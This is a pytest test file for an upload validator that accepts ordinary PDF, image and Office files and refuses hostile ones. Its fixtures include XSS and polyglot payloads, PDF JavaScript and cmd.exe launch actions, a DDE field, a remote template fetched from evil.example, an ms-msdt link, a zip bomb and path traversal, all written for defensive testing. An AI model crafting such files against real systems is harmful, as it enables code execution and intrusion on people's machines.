"""Evidence is one of a few kinds of file all through; whatever else it is too, it is refused (T-21)."""

import time

import pytest

from causeway.documents.evidence.checking import check_file
from causeway.documents.evidence.names import LONGEST, clean_name
from causeway.documents.refusal import FileRefused
from tests.documents.evidence.corpus import (
    archive,
    field,
    fitting,
    office,
    packed,
    pdf,
    picture,
    png_of,
    relation,
)

MOST = 10 * 1024 * 1024
RLO = "\u202e"
CHART = "ppt/charts/_rels/chart1.xml.rels"
HONEST = {
    "minutes.pdf": pdf(),
    "Minutes v1.2 final.PDF": pdf(),
    "opens-at-a-page.pdf": pdf(catalogue=b"/OpenAction [3 0 R /Fit]"),
    "packed.pdf": pdf(packed(b"7 0 << /Type /Annot /A << /S /URI /URI (https://a.example) >> >>")),
    "screen.png": picture("PNG"),
    "photo.jpg": picture("JPEG"),
    "photo.jpeg": picture("JPEG"),
    "register.xlsx": office("xlsx"),
    "policy.docx": office("docx", relation("hyperlink", "https://council.example/policy")),
    "fields.docx": office("docx", field("PAGE", " \\* MERGEFORMAT")),
    "slides.pptx": office("pptx"),
    "chart.pptx": office(
        "pptx",
        {"ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": office("xlsx")}
        | relation("package", "../embeddings/x.xlsx", external=False, of=CHART),
    ),
}
HOSTILE = {
    # Names
    f"invoice{RLO}xcod.pdf": (pdf(), "turns its letters round"),
    "in\u200bvoice.pdf": (pdf(), "invisible characters"),
    "minutes.exe.pdf": (pdf(), "two endings, “.exe” and “.pdf”"),
    "minutes.pdf.docx": (office("docx"), "two endings"),
    "minutes": (pdf(), "does not say what kind"),
    ".pdf": (pdf(), "does not say what kind"),
    "a/b.pdf": (pdf(), "holds “/”"),
    "a" * LONGEST + ".pdf": (pdf(), f"at most {LONGEST} are kept"),
    # Something other than it says
    "empty.pdf": (b"\0\r\n ", "is empty"),
    "page.pdf": (b"<!DOCTYPE html><script>alert(1)</script>", "a web page"),
    "page.html": (b"<html>", "a web page"),
    "drawing.svg": (b'<?xml version="1.0"?><svg onload="alert(1)"/>', "an SVG picture"),
    "drawing.png": (b'<svg onload="alert(1)"/>', "an SVG picture"),
    "film.gif": (b"GIF89a/*\x00*/=1;alert(1)//", "a GIF picture"),
    "film.png": (b"GIF89a/*\x00*/=1;alert(1)//", "a GIF picture"),
    "tool.pdf": (b"MZ\x90\x00", "a program"),
    "old.docx": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 more", "an old Office file"),
    "words.pdf": (b"Just words", "is not what “.pdf” says"),
    "words.csv": (b"Just,words", "is a “.csv” file, which is not kept"),
    "photo.png": (picture("JPEG"), "what is in it is a JPEG picture"),
    "photo.pdf": (picture("PNG"), "what is in it is a PNG picture"),
    "book.docx": (office("xlsx"), "what is in it is an Excel file"),
    "things.xlsx": (archive({"a.exe": b"MZ"}), "an archive"),
    # Two things at once
    "both.pdf": (pdf(after=archive({"a.txt": b"x"})), "a zip archive at once"),
    "joined.pdf": (pdf(fitting(b"\n%%EOF\n")), "a zip archive at once"),
    "and-a-page.pdf": (
        pdf().replace(b"\n1 0", b"\n%<script>alert(1)</script>\n1 0", 1),
        "web page",
    ),
    "more.pdf": (pdf(after=b"alert(1)//"), "follows after the end"),
    "both.png": (picture() + archive({"a.txt": b"x"}), "a zip archive at once"),
    "more.png": (picture() + b"<script>", "follows after the end"),
    "more.jpg": (picture("JPEG") + b"<?php", "follows after the end"),
    "more.docx": (office("docx") + b"<script>", "follows after the end"),
    "two.docx": (office("docx") + office("docx"), "stands before"),
    "before.docx": (b"%PDF-1.7\n" + office("docx"), "what is in it is a PDF"),
    # Damage
    "cut.pdf": (pdf()[:-30], "cut short"),
    "cut.png": (picture()[:-20], "cut short"),
    "cut.jpg": (picture("JPEG")[:-30], "cut short"),
    "cut.xlsx": (office("xlsx")[:-30], "follows after the end|cut short"),
    "changed.png": (picture().replace(b"IDAT\x78", b"IDAT\x79"), "damaged"),
    "huge.png": (png_of(60_000, 60_000), "pixels|larger than"),
    "hollow.png": (png_of(100, 100), "cannot be shown"),
    # What acts
    "script.pdf": (pdf(catalogue=b"/Names << /JavaScript 9 0 R >>"), "JavaScript"),
    "spelled.pdf": (pdf(b"9 0 obj << /S /J#61va#53cript >> endobj"), "JavaScript"),
    "launch.pdf": (pdf(b"9 0 obj <</S/Launch/F(cmd.exe)>> endobj"), "starts another program"),
    "embedded.pdf": (pdf(catalogue=b"/Names <</EmbeddedFiles 9 0 R>>"), "another file inside"),
    "opens.pdf": (pdf(catalogue=b"/OpenAction 9 0 R"), "runs when it is opened"),
    "opens-now.pdf": (pdf(catalogue=b"/OpenAction<</S/URI>>"), "runs when it is opened"),
    "hidden.pdf": (pdf(packed(b"7 0 << /S /JavaScript /JS (app.alert(1)) >>")), "JavaScript"),
    "stacked.pdf": (
        pdf(packed(b"x", filters=b"[/ASCIIHexDecode /FlateDecode]")),
        "cannot be looked into",
    ),
    "locked.pdf": (pdf(b"9 0 obj <</Encrypt 8 0 R>> endobj"), "a password"),
    "macros.docx": (office("docx", {"word/vbaProject.bin": b"x"}), "has macros"),
    "renamed.docx": (
        office(
            "docx",
            types='<Types ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
        ),
        "has macros",
    ),
    "macros.xlsx": (office("xlsx", {"xl/macrosheets/sheet1.xml": b"<x/>"}), "has macros"),
    "links.xlsx": (
        office("xlsx", {"xl/externalLinks/externalLink1.xml": b"<x/>"}),
        "links to other",
    ),
    "object.docx": (office("docx", {"word/embeddings/oleObject1.bin": b"x"}), "OLE"),
    "object.pptx": (office("pptx", {"ppt/embeddings/tool.bin": b"MZ"}), "embedded in it"),
    "book.pptx": (
        office(
            "pptx",
            {
                "ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": office(
                    "xlsx", {"xl/vbaProject.bin": b"x"}
                )
            },
        ),
        "behind one of its charts: The file has macros",
    ),
    "tool.docx": (office("docx", {"word/media/tool.exe": b"MZ"}), "holds another file"),
    "fetches.docx": (
        office("docx", relation("attachedTemplate", "https://evil.example/t.dotm")),
        "fetches something from outside",
    ),
    "shares.docx": (office("docx", relation("image", "file://evil/x.png")), "fetches something"),
    "runs.docx": (office("docx", relation("hyperlink", "ms-msdt:/id")), "neither a web page"),
    "dde.docx": (office("docx", field("DD", "EAUTO c:\\\\windows\\\\cmd.exe")), "DDE"),
    "bomb.docx": (office("docx", {"word/big.xml": b" " * 130_000_000}), "unpacks to more"),
    "entities.docx": (
        office("docx", {"word/x.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'}),
        "document type",
    ),
    "up.docx": (office("docx", {"../../up.xml": b"<x/>"}), "points outside"),
}


@pytest.mark.parametrize("name", HONEST)
def test_what_councils_keep_is_taken(name: str) -> None:
    taken = check_file(name, HONEST[name], most_bytes=MOST)

    assert taken.name == name
    assert taken.content == HONEST[name]


@pytest.mark.parametrize("name", HOSTILE)
def test_anything_else_is_refused_and_the_refusal_says_why(name: str) -> None:
    content, why = HOSTILE[name]
    began = time.monotonic()

    with pytest.raises(FileRefused, match=why) as refused:
        check_file(name, content, most_bytes=MOST)

    assert refused.value.what_to_do.endswith(".")
    assert time.monotonic() - began < 30


def test_a_file_that_is_too_large_is_refused_by_its_size() -> None:
    with pytest.raises(FileRefused, match=r"The file is 1.0 MB. It must be 0 MB or less"):
        check_file("a.pdf", b"%PDF-1.7" + b"x" * 1024 * 1024, most_bytes=1024)


def test_a_name_is_kept_as_people_see_it() -> None:
    assert clean_name("Cafe\u0301  minutes.pdf") == "Caf\u00e9 minutes.pdf"
